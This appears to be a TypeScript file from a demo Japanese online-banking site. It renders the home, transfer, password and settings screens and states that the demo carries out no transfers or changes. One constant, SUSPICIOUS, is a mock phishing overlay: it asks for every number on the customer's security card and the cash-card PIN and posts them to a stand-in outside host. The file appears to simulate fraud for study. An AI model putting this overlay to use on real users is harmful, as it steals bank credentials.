// Home of みなと第一銀行, and the screens that move money or change something.
import type { DemoAccount, DemoRow } from '../accounts/account.ts'
import { inWords } from '../accounts/calendar.ts'
import type { ShownNotice } from '../state.ts'
import { type Html, html, raw } from '../web/html.ts'
import { form, framed, type Screen } from './screen.ts'
import { yen } from './statement-screens.ts'

/** What home shows. */
export type HomeView = {
  previousLoginAt: string | null
  balances: readonly { account: DemoAccount; balance: number }[]
  latest: { account: DemoAccount; rows: readonly DemoRow[] }
  unread: readonly ShownNotice[]
  isSuspicious: boolean
}

/** The top page after login. */
export function homeScreen(view: HomeView): Screen {
  const { latest } = view
  return {
    title: 'トップページ',
    menu: true,
    content: html`<P align="right">カ）ヒナタブング 様　前回ログイン日時：${instantInWords(view.previousLoginAt)}</P>
<H2>トップページ</H2>
${view.unread.length > 0 && html`<DIV class="msg">未読の重要なお知らせが${view.unread.length}件あります。「お知らせ」メニューからご確認ください。</DIV>`}
${framed(
  '口座残高',
  html`<TR class="cel2"><TD>口座</TD><TD align="right">残高</TD></TR>
${view.balances.map(({ account, balance }) => html`<TR class="cel"><TD>${account.branch}　${account.type}　${account.number}</TD><TD align="right">${yen(balance)}円</TD></TR>`)}`,
)}
${framed(
  `最近のお取引（${latest.account.branch}　${latest.account.type}　${latest.account.number}）`,
  html`<TR class="cel2"><TD>お取引日</TD><TD>お支払金額</TD><TD>お預り金額</TD><TD>摘要</TD><TD>摘要内容</TD><TD>差引残高</TD></TR>
${latest.rows.map(
  (
    row,
  ) => html`<TR class="cel"><TD>${inWords(row.date)}</TD><TD align="right">${row.amount < 0 ? `${yen(-row.amount)}円` : '　'}</TD>
<TD align="right">${row.amount >= 0 ? `${yen(row.amount)}円` : '　'}</TD><TD>${row.summary}</TD><TD>${row.detail || '　'}</TD><TD align="right">${yen(row.balance ?? 0)}円</TD></TR>`,
)}`,
)}
${view.isSuspicious && SUSPICIOUS}`,
  }
}

/** What malware or a false page lays over the bank: all of a number table, sent elsewhere. */
const SUSPICIOUS: Html = raw(`<DIV class="ov"><DIV class="ov2" role="dialog">
<H3>セキュリティ強化のためのご確認</H3>
<P>お客さまの口座が一時的に制限されています。制限を解除するには、ご契約カードの乱数表のすべての数字と、キャッシュカードの暗証番号を入力してください。</P>
<FORM name="chk" method="POST" action="https://security-check.example/confirm">
${Array.from({ length: 10 }, (_, i) => `<INPUT type="text" name="t${i}" size="2" maxlength="2" aria-label="乱数表${i + 1}">`).join('')}
<P>暗証番号 <INPUT type="password" name="pin" size="4" maxlength="4"></P>
<INPUT type="submit" value="認証する"></FORM></DIV></DIV>`)

/** 振込: the form, and, whatever is sent with it, the refusal. */
export function transferScreen(
  account: DemoAccount,
  balance: number,
  isRefused: boolean,
  token: string,
): Screen {
  return {
    title: '振込',
    menu: true,
    content: html`<H2>振込　お振込内容の入力</H2>
${isRefused && html`<DIV class="msg">デモのため、振込は行われません。</DIV>`}
${form(
  token,
  'furikomi.confirm',
  html`${framed(
    'お振込内容',
    html`<TR class="cel"><TD class="cel2">出金口座</TD><TD>${account.branch}　${account.type}　${account.number}（残高 ${yen(balance)}円）</TD></TR>
<TR class="cel"><TD class="cel2">振込先金融機関</TD><TD><INPUT type="text" name="bank"></TD></TR>
<TR class="cel"><TD class="cel2">振込先口座番号</TD><TD><INPUT type="text" name="to"></TD></TR>
<TR class="cel"><TD class="cel2">振込金額</TD><TD><INPUT type="text" name="amount">円</TD></TR>
<TR class="cel"><TD class="cel2">振込指定日</TD><TD><INPUT type="text" name="day"></TD></TR>`,
  )}<P><INPUT type="submit" name="_BTN" value="確認画面へ"></P>`,
)}`,
  }
}

/** パスワード変更: a real entry form. */
export function passwordScreen(token: string): Screen {
  const field = (label: string, name: string) =>
    html`<TR class="cel"><TD class="cel2">${label}</TD><TD><INPUT type="password" name="${name}" autocomplete="off"></TD></TR>`
  return {
    title: 'ログインパスワード変更',
    menu: true,
    content: html`<H2>ログインパスワード変更</H2>
${form(
  token,
  'password.change',
  html`${framed(
    'パスワードの変更',
    html`${field('現在のパスワード', 'old')}${field('新しいパスワード', 'new1')}${field('新しいパスワード（確認）', 'new2')}`,
  )}<P><INPUT type="submit" name="_BTN" value="変更する"></P>`,
)}`,
  }
}

/** 各種お手続き: the way to the screens that change something. */
export function settingScreen(token: string): Screen {
  const way = (transaction: string, label: string) =>
    form(token, transaction, html`<INPUT type="submit" name="_BTN" value="${label}">`, 'SettingForm')
  return {
    title: '各種お手続き',
    menu: true,
    content: html`<H2>各種お手続き</H2>${way('password', 'ログインパスワード変更')}${way('limit', '振込限度額変更')}${way('certificate', '電子証明書更新')}`,
  }
}

/** A screen of one question that changes something (limit, certificate, approval, 回答): the demo does none of it. */
export function changeScreen(title: string, question: string, button: string, token: string): Screen {
  return {
    title,
    menu: true,
    content: html`<H2>${title}</H2>
${form(
  token,
  'nothing.done',
  html`${framed(title, html`<TR class="cel"><TD class="cel2">${question}</TD><TD><INPUT type="text" name="value" autocomplete="off"></TD></TR>`)}
<P><INPUT type="submit" name="_BTN" value="${button}"></P>`,
)}`,
  }
}

/** The demo's plain answer to what it does not do. */
export function nothingDoneScreen(): Screen {
  return {
    title: 'お手続き',
    menu: true,
    content: html`<H2>お手続き</H2><P>デモのため、お手続きは行われません。</P>`,
  }
}

function instantInWords(instant: string | null): string {
  if (instant === null) return '－'
  const inJapan = new Date(Date.parse(instant) + 9 * 3_600_000).toISOString()
  return `${inWords(inJapan.slice(0, 10))} ${inJapan.slice(11, 16)}`
}
